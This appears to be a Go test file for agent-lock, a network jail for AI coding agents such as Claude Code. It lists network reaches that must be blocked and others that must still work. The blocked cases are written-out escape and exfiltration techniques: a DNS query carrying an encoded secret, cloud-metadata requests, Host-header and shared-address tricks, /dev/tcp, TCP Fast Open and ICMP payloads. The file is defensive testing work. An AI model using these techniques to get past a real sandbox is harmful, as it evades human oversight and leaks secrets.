package main

import (
	"strings"

	"github.com/agent-lock/agent-lock/test/netlab"
	"github.com/agent-lock/agent-lock/test/testenv"
)

// netCase is one reach for the network, a bash script run in DIR.
type netCase struct {
	name   string
	script string
	// want in the output means the script reached its host.
	want string
	// asked, when set, means so too: the lab's DNS server was asked this
	// name (a query that carries a secret out).
	asked string
	// works: the case must work jailed, with nothing refused. Otherwise
	// it must fail jailed and be reported: a blocked record of op whose
	// path holds target, from the process comm (when set), and the
	// output must hold says (when set: the refusal's answer).
	works  bool
	op     string
	target string
	comm   string
	says   string
	// flags replace the suite's grants for the jailed run.
	flags []string
	// needs names what the case needs installed (claude), "" nothing.
	needs string
}

// reached reports whether a run reached the case's host.
func (c netCase) reached(l *netlab.Lab, res testenv.Result, mark int) bool {
	if c.asked != "" {
		return l.Asked(mark, c.asked)
	}
	return strings.Contains(string(res.Output), c.want)
}

const curl = "curl -sS -m 10 --cacert ca.pem "

// sshCmd is ssh with everything it needs in DIR: no ~/.ssh.
const sshCmd = `ssh -F /dev/null -o UserKnownHostsFile="$PWD/known_hosts" -o GlobalKnownHostsFile=/dev/null ` +
	`-o StrictHostKeyChecking=yes -o BatchMode=yes -o IdentitiesOnly=yes -o ConnectTimeout=10 -i "$PWD/lab_key"`

var cases = []netCase{
	// What must be refused, and reported with what it reached for.
	{name: "refused-name", script: curl + "http://refused.test/",
		want: "hello from refused.test", op: "resolve", target: "refused.test", comm: "curl"},
	{name: "dig-refused-name", script: "dig +short +tries=1 +time=3 refused.test",
		want: "203.0.113.11", op: "resolve", target: "refused.test"},
	// The query name carries the secret: it must never leave the
	// machine, so the lab's DNS server must not hear it.
	{name: "dns-exfiltration", script: "dig +short +tries=1 +time=3 c2VjcmV0LWtleQ.refused.test; true",
		asked: "c2vjcmv0lwtleq.refused.test", op: "resolve", target: "c2vjcmv0lwtleq.refused.test"},
	{name: "shared-address-tls", script: curl + "-o /dev/null https://allowed.test/ && " +
		curl + "--resolve other.test:443:203.0.113.10 https://other.test/",
		want: "hello from other.test", op: "connect", target: "other.test:443", comm: "curl"},
	{name: "shared-address-http", script: curl + "-H 'Host: other.test' http://allowed.test/",
		want: "hello from other.test", op: "connect", target: "other.test:80", comm: "curl", says: "agent-lock refused this request"},
	{name: "raw-address", script: curl + "http://203.0.113.11/",
		want: "hello from 203.0.113.11", op: "connect", target: "203.0.113.11:80", comm: "curl"},
	{name: "cloud-metadata", script: curl + "http://169.254.169.254/latest/meta-data/",
		want: "hello from 169.254.169.254", op: "connect", target: "169.254.169.254:80", comm: "curl"},
	// private.test is granted by name, but it resolves to a private
	// address: a name does not lead into the private network.
	{name: "private-by-name", script: curl + "http://private.test/",
		want: "hello from private.test", op: "connect", target: "private.test:80", comm: "curl"},
	{name: "loopback-port", script: "exec 3<>/dev/tcp/127.0.0.1/5432 && cat <&3",
		want: "loopback database", op: "connect", target: "127.0.0.1:5432", comm: "bash"},
	// The cell's own servers on loopback are its to reach: binding the
	// database's port on another loopback address, or on IPv6 only,
	// makes no other service its own.
	{name: "own-port-trick", script: `python3 -c '
import socket
a = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
a.bind(("127.0.0.5", 5432)); a.listen()
b = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
b.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
b.bind(("::", 5432)); b.listen()
c = socket.create_connection(("127.0.0.1", 5432), timeout=5)
print(c.recv(100).decode())'`,
		want: "loopback database", op: "connect", target: "127.0.0.1:5432", comm: "python3"},
	// TCP Fast Open sends data with the connection's first packet,
	// without connect(2).
	{name: "tcp-fastopen", script: `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.sendto(b"GET / HTTP/1.0\r\nHost: 203.0.113.11\r\n\r\n", socket.MSG_FASTOPEN, ("203.0.113.11", 80))
s.settimeout(5)
print(s.recv(200).decode())'`,
		want: "hello from 203.0.113.11", op: "connect", target: "203.0.113.11:80", comm: "python3"},
	// QUIC's port over UDP, to a granted name's address.
	{name: "udp-443", script: `python3 -c '
import socket
a = socket.getaddrinfo("allowed.test", 443, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(b"quic", a)
print(s.recv(100).decode())'`,
		want: "echo quic", op: "send", target: "allowed.test:443", comm: "python3"},
	{name: "icmp-echo", script: `python3 -c '
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.settimeout(5)
s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"exfil", ("203.0.113.10", 0))
if s.recv(100)[0] == 0: print("icmp echo reply")'`,
		want: "icmp echo reply", op: "socket", target: "icmp socket", comm: "python3"},

	// What must work jailed, with nothing refused, and no proxy variables.
	{name: "curl-https", works: true, script: curl + "https://allowed.test/", want: "hello from allowed.test"},
	{name: "curl-http", works: true, script: curl + "http://allowed.test/", want: "hello from allowed.test"},
	{name: "dig-granted", works: true, script: "dig +short +tries=1 +time=3 allowed.test", want: "203.0.113.10"},
	{name: "node-fetch", works: true, want: "hello from allowed.test",
		script: `NODE_EXTRA_CA_CERTS="$PWD/ca.pem" node -e 'fetch("https://allowed.test/").then(r => r.text()).then(t => process.stdout.write(t))'`},
	{name: "python-urllib", works: true, want: "hello from allowed.test", script: `python3 -c '
import ssl, urllib.request
ctx = ssl.create_default_context(cafile="ca.pem")
print(urllib.request.urlopen("https://allowed.test/", context=ctx, timeout=10).read().decode())'`},
	{name: "git-clone-https", works: true, want: "lab repository",
		// A clone of its own each run: the unjailed run's clone is the
		// user's repository, whose hooks the jail keeps (no rm -rf of it).
		script: `GIT_SSL_CAINFO="$PWD/ca.pem" git clone -q https://git.test/repo.git c1-$$ && cat c1-$$/README`},
	{name: "ssh", works: true, want: "ssh works", script: sshCmd + " jailtest@git.test echo ssh works"},
	{name: "git-clone-ssh", works: true, want: "lab repository",
		script: `GIT_SSH_COMMAND='` + sshCmd + `' git clone -q jailtest@git.test:repo.git c2-$$ && cat c2-$$/README`},
	// Claude Code itself (the pinned package make agents fetches, in the
	// user's npm prefix), granted its profile and the scripted model's
	// name, asks that model and prints its answer.
	{name: "claude-code", works: true, needs: "claude", want: netlab.ModelReply,
		flags: []string{"--profile", "claude", "--allow-net", "model.test"},
		script: `NODE_EXTRA_CA_CERTS="$PWD/ca.pem" ANTHROPIC_BASE_URL=https://model.test ANTHROPIC_API_KEY=sk-ant-lab ` +
			`DISABLE_TELEMETRY=1 DISABLE_ERROR_REPORTING=1 DISABLE_AUTOUPDATER=1 CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 ` +
			`"$HOME/.npm-global/bin/claude" -p "Say the scripted line." </dev/null`},
	// The agent's own server on loopback (a test's, a dev server).
	{name: "own-loopback-server", works: true, want: "Directory listing", script: `
python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 &
for i in $(seq 50); do curl -s -m 2 -o /dev/null http://127.0.0.1:8765/ && break; sleep 0.2; done
curl -sS -m 5 http://127.0.0.1:8765/ | grep -o "Directory listing" | head -1
kill %1`},
}
